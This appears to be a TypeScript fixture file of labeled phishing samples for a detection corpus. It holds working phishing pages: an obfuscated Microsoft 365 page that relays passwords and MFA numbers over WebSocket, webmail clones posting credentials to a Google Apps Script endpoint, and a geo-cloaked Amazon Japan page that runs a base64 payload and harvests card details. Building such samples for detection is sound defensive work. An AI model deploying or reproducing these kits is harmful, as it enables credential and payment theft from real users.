import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, b64, pctAll, xorB64 } from '../parts/zr-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zr-m365-kr-doc-obfuscated-aitm',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://docs-viewer.hanwol-partners.workers-kr.dev/#bWluc3UucGFya0Bnb2xkZW5icmlkZ2UuY28ua3I=',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>&#8203;</title></head><body style="background:#fff">
<script>
var _p='${pctAll(`<div style="font-family:Segoe UI,sans-serif;width:440px;margin:90px auto;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)"><img src="/aadcdn/ms.svg" alt="Microsoft" width="108"><h2 style="font-weight:600">로그인</h2><p id="u" style="font-size:14px"></p><input id="p" type="password" placeholder="암호" style="width:100%;padding:8px 0;border:0;border-bottom:1px solid #666;font-size:15px"><p style="font-size:13px"><a href="#">암호를 잊어버렸습니다.</a></p><button id="b" style="background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right">로그인</button></div>`)}';
document.write(unescape(_p));
var h=location.hash.slice(1),em='';try{em=atob(h)}catch(x){}document.getElementById('u').textContent=em;
document.getElementById('b').onclick=function(){var s=new WebSocket('wss://docs-viewer.hanwol-partners.workers-kr.dev/ws');s.onopen=function(){s.send(JSON.stringify({e:em,p:document.getElementById('p').value}))};s.onmessage=function(m){var d=JSON.parse(m.data);if(d.mfa){document.body.innerHTML='<p style="font-family:Segoe UI;text-align:center;margin-top:120px">Authenticator 앱에서 '+d.num+' 번호를 입력하여 로그인 요청을 승인하세요.</p>'}if(d.done){location.href='https://outlook.office.com/'}}};
</script></body></html>`,
  routes: {
    'docs-viewer.hanwol-partners.workers-kr.dev/aadcdn/ms.svg': { status: 200, headers: { 'content-type': 'image/svg+xml' }, body: '<svg xmlns="http://www.w3.org/2000/svg" width="108" height="24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-size="15" fill="#5e5e5e">Microsoft</text></svg>' },
  },
},
{
  id: 'zr-webmail-roundcube-tw-hosting',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://webmail.hinet-mailbox-verify.com/roundcube/?_task=login',
  body: doc({
    lang: 'zh-Hant',
    title: 'Roundcube Webmail :: 歡迎使用 Roundcube Webmail',
    css: 'body{background:#e8ebee}.m{width:380px;margin:100px auto;background:#fff;padding:30px;border-radius:4px}.b{background:#37beff;color:#fff;width:100%}',
    body: `<div class="m"><div style="text-align:center;font-size:22px;color:#2c363a">roundcube <span style="color:#37beff">webmail</span></div>
<p style="font-size:13px">您的信箱帳號將於今日過期，請重新驗證以繼續收發郵件。</p>
<form id="rc"><input type="hidden" name="_task" value="login"><label>使用者名稱</label><input type="text" name="_user"><label>密碼</label><input type="password" name="_pass"><p><button class="btn b">登入</button></p></form></div>
<script>
document.getElementById('rc').onsubmit=function(e){e.preventDefault();var u=this._user.value,p=this._pass.value;
fetch('https://script.google.com/macros/s/AKfycbx9Q2mVbLh0w1Ue7dR3pYt5nZk/exec',{method:'POST',mode:'no-cors',body:JSON.stringify({u:u,p:p,host:location.host})}).finally(function(){var dom=u.split('@')[1]||'hinet.net';location.href='https://'+dom})};
</script>`,
  }),
},
{
  id: 'zr-webmail-owa-sg-logistics',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://owa.straitsfreight-sg.com.mailportal.cfd/owa/auth/logon.aspx',
  body: doc({
    lang: 'en',
    title: 'Outlook',
    css: 'body{background:#fff}.m{max-width:360px;margin:120px auto}.b{background:#0072c6;color:#fff;width:100%;border-radius:0}input{border-radius:0}',
    body: `<div class="m"><div style="font-size:34px;color:#0072c6;font-weight:300">Outlook</div>
<form id="ow"><label>Domain\\user name or email address:</label><input type="text" name="username"><label>Password:</label><input type="password" name="password"><p><button class="btn b">sign in</button></p></form>
<p style="font-size:12px;color:#666">Connected to Microsoft Exchange<br>© 2024 Microsoft</p></div>
<script>
document.getElementById('ow').onsubmit=async function(e){e.preventDefault();
const r=await fetch('/owa/auth/check',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({u:this.username.value,p:this.password.value})}).catch(()=>null);
location.href='https://outlook.office365.com/owa/';}
</script>`,
  }),
},
{
  id: 'zr-cloaked-jp-amazon-referrer-gate',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://amazon-co-jp.account-hold.icu/ap/signin',
  body: `<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>Amazon.co.jp</title></head><body>
<noscript><p>404 Not Found</p></noscript>
<script>
(function(){
  var lang=(navigator.language||'').toLowerCase(), tz=Intl.DateTimeFormat().resolvedOptions().timeZone;
  if(lang.indexOf('ja')!==0 && tz!=='Asia/Tokyo'){document.write('<h1>404 Not Found</h1><hr>nginx');return;}
  fetch('/ap/k.js').then(function(r){return r.text()}).then(function(t){new Function(t)()});
})();
</script></body></html>`,
  routes: {
    'amazon-co-jp.account-hold.icu/ap/k.js': jsRoute(`document.open();document.write(decodeURIComponent(escape(atob('${b64(`<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>Amazonサインイン</title><style>body{font-family:Arial,sans-serif}.m{width:350px;margin:20px auto}.bx{border:1px solid #ddd;border-radius:8px;padding:20px}input{width:100%;padding:7px;margin:4px 0 12px;border:1px solid #a6a6a6;border-radius:3px;box-sizing:border-box}.y{background:#ffd814;border:1px solid #fcd200;border-radius:8px;width:100%;padding:8px}</style></head><body><div class="m"><h2 style="font-weight:700">amazon<span style="font-size:14px">.co.jp</span></h2><div class="bx"><p style="color:#c40000;font-size:13px">お客様のアカウントは、お支払い方法の問題により一時的に保留されています。</p><h1 style="font-weight:400;font-size:28px">ログイン</h1><form id="a"><label>Eメールまたは携帯電話番号</label><input name="email"><label>パスワード</label><input name="password" type="password"><button class="y">ログイン</button></form></div></div></body></html>`)}'))));document.close();document.getElementById('a').onsubmit=function(e){e.preventDefault();fetch('/ap/post',{method:'POST',body:new FormData(this)}).finally(function(){location.href='/ap/billing'})};`),
    'amazon-co-jp.account-hold.icu/ap/billing': htmlRoute(doc({ lang: 'ja', title: 'お支払い方法の更新', body: `<div class="card" style="max-width:420px;margin:30px auto"><h3>お支払い情報の更新</h3><form id="c"><label>カード名義</label><input type="text" name="holder"><label>カード番号</label><input type="text" name="cc"><label>有効期限</label><input type="text" name="exp"><label>セキュリティコード</label><input type="password" name="cvv"><p><button class="btn" style="background:#ffd814">保存して続行</button></p></form></div><script>document.getElementById('c').onsubmit=function(e){e.preventDefault();fetch('/ap/post',{method:'POST',body:new FormData(this)}).finally(function(){location.href='https://www.amazon.co.jp/'})}</script>` })),
  },
},
];
